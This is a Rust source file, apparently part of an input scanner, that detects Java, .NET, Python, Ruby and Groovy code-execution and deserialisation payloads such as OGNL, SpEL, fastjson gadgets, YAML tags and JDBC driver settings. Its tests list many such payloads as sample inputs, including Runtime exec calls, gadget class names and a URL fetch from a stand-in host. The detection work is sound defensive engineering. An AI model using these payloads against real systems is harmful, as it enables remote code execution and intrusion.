//! Java and its neighbours: classes that run or load code, reflection, OGNL, class loaders by property, type names of gadgets; the same
//! for .NET, Python, Ruby and Groovy.
//!
//! **In:** a decoded value. **Out:** hits of class `java`.
//! **Invariant:** a class's name counts alone (a type that somebody chooses), behind `new`, `T(`, `@` or `!!`, or called; in a
//! sentence, an import or a stack trace it is a name. A package of an application is none.
//! **Source:** Java SE API; Struts and OGNL language guides; SpEL reference; CVE-2022-22965; the class lists that Jackson, XStream and
//! SnakeYAML refuse; Python and Ruby manuals.
//! **Cost:** one pass over values with a word of it; a dotted name is read once, at most [`REACH`] bytes of it.

use super::super::places::{Leads, Places, Set};
use super::bytes::{
    BLANK, LINE, byte, contains, has_at, is_space, is_word, part, rest, skip_space,
};
use super::code::{self, Arguments};
use super::java_words::{
    self, ASSEMBLIES, CALL, DANGER, GADGET, LAUNCHER, LOADER, MAPPED, OGNL, PACKAGES, PYTHON, ROOT,
    RUNNER, SUBPROCESS,
};
use super::triggers::JAVA;
use super::{Class, Hits, Strength, View, upload};

/// Bytes of a dotted name that are read.
const REACH: usize = 96;

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    if upload::is_file_name(view)
        && let Some(at) = upload::pages(view.bytes)
    {
        hits.add(Class::Java, Strength::Decisive, at);
        return;
    }
    let value = view.bytes;
    if view.words & JAVA == 0 {
        return;
    }
    super::spend(steps, value.len().saturating_mul(4));
    let bare = view.classes & (BLANK | LINE) == 0;
    let mut end = 0;
    // Reflection shows by several of its calls.
    let mut steps_seen = 0_u32;
    for at in Leads::of(value, &WORDS, &NONE) {
        let here = byte(value, at);
        if at < end || !(here.is_ascii_alphabetic() || here == b'_') {
            continue;
        }
        let name = Name::read(value, at);
        let strength = judge(value, &name, bare, &mut steps_seen);
        if let Some(strength) = strength {
            hits.add(Class::Java, strength, at);
            if strength == Strength::Decisive {
                return;
            }
        }
        end = name.end;
    }
    if steps_seen.count_ones() > 1 {
        hits.add(Class::Java, Strength::Decisive, 0);
    }
}

/// Bytes inside of which no name starts: those of words, and `$`.
static WORDS: Set = Set::of(&inside());
static NONE: Set = Set::of(b"");

#[expect(
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::as_conversions,
    reason = "runs while compiling: a fault is a build error"
)]
const fn inside() -> [u8; 192] {
    let mut list = [b'$'; 192];
    let (mut byte, mut length) = (0_usize, 0);
    while byte < 256 {
        if is_word(byte as u8) {
            list[length] = byte as u8;
            length += 1;
        }
        byte += 1;
    }
    assert!(length == 191, "one place is left for `$`");
    list
}

/// A dotted name.
struct Name {
    start: usize,
    end: usize,
    /// Segments.
    length: usize,
    /// Kind of the first, of the second and of the last segment.
    first: u8,
    second: u8,
    last: u8,
    /// Where the last segment starts.
    last_start: usize,
    /// Kinds of all segments, a bit each.
    kinds: u32,
}

impl Name {
    fn read(value: &[u8], start: usize) -> Self {
        let mut name = Self {
            start,
            end: start,
            length: 0,
            first: 0,
            second: 0,
            last: 0,
            last_start: start,
            kinds: 0,
        };
        let limit = start.saturating_add(REACH);
        let mut at = start;
        loop {
            let (end, key) = code::word(value, at);
            name.last = java_words::kind(key);
            name.last_start = at;
            match name.length {
                0 => name.first = name.last,
                1 => name.second = name.last,
                _ => {}
            }
            name.kinds |= 1_u32.wrapping_shl(u32::from(name.last));
            name.length = name.length.saturating_add(1);
            name.end = end;
            let next = end.saturating_add(1);
            let goes_on = byte(value, end) == b'.' && (is_word(byte(value, next)));
            if !goes_on || next > limit {
                return name;
            }
            at = next;
        }
    }

    const fn has(&self, kind: u8) -> bool {
        self.kinds & (1 << kind) != 0
    }
}

fn judge(value: &[u8], name: &Name, bare: bool, seen: &mut u32) -> Option<Strength> {
    let text = value.get(name.start..name.end)?;
    let before = name.start.checked_sub(1).map_or(0, |at| byte(value, at));
    // No segment is listed, no package begins so, and nothing makes it a tag.
    let begins = byte(text, 0) | 0x20;
    if name.kinds == 1 && before != b'!' && !matches!(begins, b'c' | b'j' | b'o' | b's') {
        return None;
    }
    if tagged(value, name, text, before)
        || (name.first == ROOT && name.length > 2 && is_made(value, name, before))
        || (name.first == ROOT && name.length > 2 && is_typed(value, name.start))
        || (has_at(text, 0, b"jdbc") && text.len() == 4 && connects(value, name.end))
    {
        return Some(Strength::Decisive);
    }
    // `class.module.classLoader.…`, as the name of a property.
    let property = name.length > 1 && name.has(LOADER) && has_at(text, 0, b"class.");
    let indexed = name.length == 1
        && has_at(text, 0, b"class")
        && text.len() == 5
        && byte(value, name.end) == b'['
        && contains(part(value, name.end, REACH), b"classloader");
    if (property || indexed) && !code::in_sentence(value, name.start) {
        return Some(Strength::Decisive);
    }
    let dangerous = name.length > 1
        && ((name.first == ROOT && (name.has(DANGER) || name.has(LAUNCHER)))
            || name.has(GADGET)
            || is_among(text, &PACKAGES)
            || is_among(text, &ASSEMBLIES));
    // A short one is a word like others: a foreclosure loses a letter easily.
    let gadget = name.length == 1 && name.first == GADGET && text.len() > 11;
    let open = byte(value, name.end) == b'(';
    // `"java.lang.Math.abs"(1)`: HSQLDB calls a method by its quoted name.
    if name.length > 2
        && name.first == ROOT
        && before == b'"'
        && byte(value, name.end) == b'"'
        && byte(value, skip_space(value, name.end.saturating_add(1))) == b'('
    {
        return Some(Strength::Decisive);
    }
    if (dangerous || gadget) && !open {
        if stands_alone(value, name, bare) || is_chosen(value, name, before) {
            return Some(Strength::Decisive);
        }
        let quoted = matches!(before, b'"' | b'\'')
            && byte(value, name.end) == before
            && !code::in_sentence(value, name.start);
        return Some(if quoted && dangerous {
            Strength::Decisive
        } else {
            Strength::Weak
        });
    }
    called(value, name, dangerous || gadget, seen)
}

/// `T(java.lang.System).getProperty(…)`, `new java.net.URL("…").openStream()`, `<java.util.PriorityQueue serialization="custom">`:
/// a class of the platform, used or made where a value should be.
fn is_made(value: &[u8], name: &Name, before: u8) -> bool {
    let start = name.start;
    let back = |steps: usize| start.checked_sub(steps).map_or(0, |at| byte(value, at));
    match before {
        b'(' => {
            is_type(value, name)
                && byte(value, name.end) == b')'
                && byte(value, name.end.saturating_add(1)) == b'.'
        }
        b'<' => {
            !is_word(back(2))
                && (has_at(value, name.end, b" serialization=")
                    || byte(value, name.end) == b'-' && back(1) == b'<' && name.length > 3)
        }
        b' ' => {
            let made = start <= 8 && has_at(value, start.saturating_sub(4), b"new ");
            made && !code::has_lines(value)
                && code::call(value, start, name.end).is_some_and(|call| {
                    call.arguments == Arguments::Code && !call.is_mention(value)
                })
        }
        _ => false,
    }
}

/// `"@type":"java.net.Inet4Address"`: fastjson makes what it is told to, and a class of the platform is none of an application.
fn is_typed(value: &[u8], start: usize) -> bool {
    let lead = value.get(start.saturating_sub(24)..start).unwrap_or(&[]);
    let Some(colon) = lead.iter().rposition(|&byte| byte == b':') else {
        return false;
    };
    let (key, after) = lead.split_at_checked(colon).unwrap_or((lead, &[]));
    let quotes = |text: &[u8]| {
        text.trim_ascii()
            .iter()
            .all(|byte| matches!(byte, b':' | b' ' | b'"' | b'\''))
    };
    let key = key.trim_ascii_end();
    let key = key.strip_suffix(b"\"").or_else(|| key.strip_suffix(b"'"));
    quotes(after) && key.is_some_and(|key| key.ends_with(b"@type"))
}

/// `jdbc:h2:mem:x;INIT=RUNSCRIPT FROM …`: settings of drivers that run, load or read something.
fn connects(value: &[u8], at: usize) -> bool {
    const SETTINGS: [&[u8]; 9] = [
        b"init=",
        b"runscript",
        b"autodeserialize",
        b"socketfactory=",
        b"sslfactory=",
        b"allowloadlocalinfile",
        b"allowurlinlocalinfile",
        b"queryinterceptors=",
        b"clientrerouteserverlistjndiname",
    ];
    let url = part(value, at, REACH.saturating_mul(2));
    byte(url, 0) == b':' && SETTINGS.iter().any(|setting| contains(url, setting))
}

/// What a call of the name is worth.
fn called(value: &[u8], name: &Name, dangerous: bool, seen: &mut u32) -> Option<Strength> {
    if name.last == OGNL || name.has(OGNL) {
        return Some(if code::in_sentence(value, name.start) {
            Strength::Weak
        } else {
            Strength::Decisive
        });
    }
    // `Runtime["getRuntime"]`, `getMethod('getRuntime')`.
    let before = name.start.checked_sub(1).map_or(0, |at| byte(value, at));
    if name.last == RUNNER && matches!(before, b'"' | b'\'') && byte(value, name.end) == before {
        return (!code::in_sentence(value, name.start)).then_some(Strength::Decisive);
    }
    let call = code::call(value, name.start, name.end)?;
    let strength = weighed(value, name, dangerous, &call)?;
    if call.is_mention(value) {
        return Some(Strength::Weak);
    }
    if name.last == CALL && !dangerous {
        let letter = byte(value, name.last_start.saturating_add(3));
        *seen |= 1_u32.wrapping_shl(u32::from(letter) & 31);
    }
    Some(strength)
}

/// What the call is worth where no sentence tells of it; of a name that has no meaning here, nothing.
fn weighed(value: &[u8], name: &Name, dangerous: bool, call: &code::Call) -> Option<Strength> {
    let quoted = matches!(call.first, b'"' | b'\'' | b'$' | b'#' | b'\\');
    let code = call.arguments == Arguments::Code;
    if dangerous || matches!(name.last, RUNNER | MAPPED | LAUNCHER) {
        return Some(Strength::Decisive);
    }
    if name.last == CALL {
        return Some(if quoted {
            Strength::Decisive
        } else {
            Strength::Suspicious
        });
    }
    // `os.system('id')`, `subprocess.run([…])`, `__import__('os')`.
    let python = (name.first == PYTHON && name.second == SUBPROCESS)
        || (name.length == 1 && name.last == PYTHON && quoted && byte(value, name.start) == b'_');
    if python && code {
        return Some(Strength::Decisive);
    }
    // Groovy: `'id'.execute()`.
    let text = value.get(name.last_start..name.end)?;
    let back = |steps: usize| {
        name.start
            .checked_sub(steps)
            .map_or(0, |at| byte(value, at))
    };
    let string = back(1) == b'.' && matches!(back(2), b'"' | b'\'' | b']');
    (text == b"execute" && string && call.arguments == Arguments::None)
        .then_some(Strength::Decisive)
}

/// Whether the name starts with one of `list`, at a segment's end.
fn is_among(text: &[u8], list: &[&[u8]]) -> bool {
    list.iter()
        .any(|name| has_at(text, 0, name) && !is_word(byte(text, name.len())))
}

/// The name is all there is, in quotes or behind `=`.
fn stands_alone(value: &[u8], name: &Name, bare: bool) -> bool {
    let lead = value.get(..name.start).unwrap_or_default();
    let tail = rest(value, name.end);
    let open = lead
        .last()
        .is_none_or(|before| matches!(before, b'=' | b'"' | b'\'' | b':' | b'[' | b'{' | b','));
    let close = tail
        .first()
        .is_none_or(|after| matches!(after, b'"' | b'\'' | b',' | b']' | b'}' | b';' | b'&'));
    let short = lead.len().saturating_add(tail.len()) <= REACH;
    bare && open && close && short
}

/// `new X`, `T(X`, `@X@`, `class="X"`, `forName("X`, `"@type":"X"`: somebody chooses the type.
fn is_chosen(value: &[u8], name: &Name, before: u8) -> bool {
    let start = name.start;
    let back = |steps: usize| start.checked_sub(steps).map_or(0, |at| byte(value, at));
    match before {
        b'(' => is_type(value, name),
        b'@' => byte(value, name.end) == b'@' && !is_word(back(2)),
        b'"' | b'\'' => {
            matches!(
                code::last(value, start.saturating_sub(1)),
                b'=' | b':' | b'('
            ) && !code::in_sentence(value, start)
        }
        b'<' => matches!(byte(value, name.end), b'>' | b'/' | b' '),
        _ => false,
    }
}

/// `T(` before the name; `T (` where a member follows, which no sentence writes.
fn is_type(value: &[u8], name: &Name) -> bool {
    let open = name.start.saturating_sub(1);
    let lead = value.get(open.saturating_sub(8)..open).unwrap_or(&[]);
    let letter = lead.trim_ascii_end();
    let named = letter
        .strip_suffix(b"T")
        .is_some_and(|before| !before.last().is_some_and(|&last| is_word(last)));
    let tail = rest(value, name.end);
    named
        && (letter.len() == lead.len()
            || (tail.starts_with(b").") && byte(tail, 2).is_ascii_alphabetic()))
}

/// YAML's tags: `!!javax.script.X`, `!!python/object/apply:os.system`, `!ruby/object:X`.
fn tagged(value: &[u8], name: &Name, text: &[u8], before: u8) -> bool {
    if before != b'!' {
        return false;
    }
    let double = name.start > 1 && byte(value, name.start.saturating_sub(2)) == b'!';
    let language = [&b"python"[..], b"ruby", b"php", b"js"]
        .iter()
        .any(|language| text.eq_ignore_ascii_case(language));
    let root = [
        &b"java."[..],
        b"javax.",
        b"com.",
        b"org.",
        b"sun.",
        b"ch.",
        b"jdk.",
    ]
    .iter()
    .any(|root| has_at(text, 0, root));
    (language && byte(value, name.end) == b'/') || (double && root && name.length > 2)
}

/// What expressions and pages begin with.
static SIGNS: Set = Set::of(b"%$<");

/// What starts an expression of OGNL or a page of Java: `%{(#a=…`, `${#context…`, `<%@ page`.
pub(super) fn expressions(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    use super::bytes::{ANGLE, HASH, PAREN, PERCENT};
    let value = view.bytes;
    let ognl = view.classes & HASH != 0 && view.classes & PAREN != 0;
    let page = view.classes & ANGLE != 0 && view.classes & PERCENT != 0;
    if !ognl && !page {
        return;
    }
    super::spend(steps, value.len());
    let mut signs = Places::of(value, &SIGNS);
    let mut from = 0;
    while let Some(at) = signs.from(from) {
        from = at.saturating_add(1);
        let found = match (byte(value, at), byte(value, from)) {
            (b'%' | b'$', b'{') => {
                let start = skip_space(value, at.saturating_add(2));
                let start = if byte(value, start) == b'(' {
                    skip_space(value, start.saturating_add(1))
                } else {
                    start
                };
                variable(value, start) || redirects(value, at, start)
            }
            (b'<', b'%') if byte(value, at.saturating_add(2)) == b'@' => {
                let start = skip_space(value, at.saturating_add(3));
                [&b"page"[..], b"include", b"taglib", b"import"]
                    .iter()
                    .any(|word| {
                        has_at(value, start, word)
                            && is_space(byte(value, start.saturating_add(word.len())))
                    })
            }
            _ => false,
        };
        if found {
            let strength = if code::in_sentence(value, at) {
                Strength::Weak
            } else {
                Strength::Decisive
            };
            hits.add(Class::Java, strength, at);
            return;
        }
    }
}

/// `redirect:${#context}`: an action of Struts, from its prefix on.
fn redirects(value: &[u8], at: usize, start: usize) -> bool {
    let lead = value.get(..at).unwrap_or(&[]);
    byte(value, start) == b'#'
        && [&b"redirect:"[..], b"redirectAction:", b"action:"]
            .iter()
            .any(|prefix| lead.eq_ignore_ascii_case(prefix))
}

/// `#name` with what OGNL does with a variable.
fn variable(value: &[u8], at: usize) -> bool {
    if byte(value, at) != b'#' {
        return false;
    }
    let start = at.saturating_add(1);
    let length = part(value, start, REACH)
        .iter()
        .position(|&letter| !is_word(letter))
        .unwrap_or(0);
    let end = skip_space(value, start.saturating_add(length));
    length > 0 && matches!(byte(value, end), b'=' | b'.' | b'[' | b'(')
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Strength, hits_of};
    use super::{Leads, NONE, WORDS, is_word};

    fn is_decisive(value: &str) -> bool {
        hits_of(value.as_bytes()).contains(&(Class::Java, Strength::Decisive))
    }

    #[test]
    fn a_name_starts_behind_no_word_and_no_dollar() {
        for before in 0..=u8::MAX {
            let text = [before, b'j', b'.'];
            let starts = Leads::of(&text, &WORDS, &NONE).any(|at| at == 1);
            assert_eq!(starts, !(is_word(before) || before == b'$'), "{before}");
        }
    }

    #[test]
    fn types_and_calls_that_run_code() {
        for value in [
            "java.lang.Runtime",
            "java.lang.ProcessBuilder",
            "\"java.lang.Math.abs\" (1)",
            "x=java.io.FileReader",
            "java.foo.runtime",
            "com.sun.rowset.JdbcRowSetImpl",
            "com.opensymphony.xwork2",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "runtime.clonetransformer",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"x\"}",
            "[\"java.lang.ProcessBuilder\", [\"id\"]]",
            "Runtime.getRuntime().exec(\"id\")",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "T (java.lang.Runtime).getRuntime()",
            "T (java.lang.System).getProperty('user.dir')",
            "T\n(java.lang.System).getProperty('user.dir')",
            "new java.net.URL\n(\"http://evil.example\").openStream()",
            "#{''.getClass().forName('java.lang.Runtime')}",
            "new java.lang.ProcessBuilder({'id'}).start()",
            "new ProcessBuilder(\"id\").start();",
            "x.getClass().getClassLoader().loadClass(y)",
            "''['class'].forName(\"x\")",
            "Class.forName('x').getMethod('getRuntime').invoke(null)",
            "@java.lang.Runtime@getRuntime().exec('id')",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
            "${(#a=@org.apache.commons.io.IOUtils@toString(1))}",
            "class.module.classLoader.resources.context.parent",
            "class[module][classLoader][x]",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
            "!!python/object/apply:os.system ['id']",
            "--- !ruby/object:Gem::Installer",
            "<object class=\"java.lang.ProcessBuilder\">",
            "com.example.FileSystemXmlApplicationContext('http://a.example/b')",
            "<%@ page import=\"java.util.*\" %>",
            "System.Diagnostics.Process",
            "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
            "__import__('os').system('id')",
            "os.system('id')",
            "import os;os.popen('id').read()",
            "subprocess.check_output(['id'])",
            "'id'.execute()",
            "[\"sh\",\"-c\",\"id\"].execute().text",
        ] {
            assert!(
                is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }

    #[test]
    fn names_traces_and_talk_are_none() {
        for value in [
            "java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)",
            "\tat java.lang.Thread.run(Thread.java:748)",
            "\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
            "import java.io.BufferedReader; import java.util.List;",
            "com.example.app",
            "com.google.android.gms",
            "org.springframework.boot:spring-boot-starter-web:3.2.0",
            "org.apache.commons:commons-lang3",
            "java.lang.String",
            "java.util.List",
            "Java/1.8.0_292",
            "Apache-HttpClient/4.5 (Java/11.0.9)",
            "I used Runtime.getRuntime().exec(\"ls\") but it hangs",
            "a runtime of 90 minutes",
            "the class loader of the bus",
            "process builder wanted",
            "@user.name@social.example",
            "use os.path.join(a, b)",
            "the subprocess module",
            "my.class.name",
            "class.php",
            "first.class.delivery",
            "%{name} and ${user.name}",
            "${#list}",
            "Yes!! com.example is down",
            "system.web",
        ] {
            assert!(
                !is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }
}
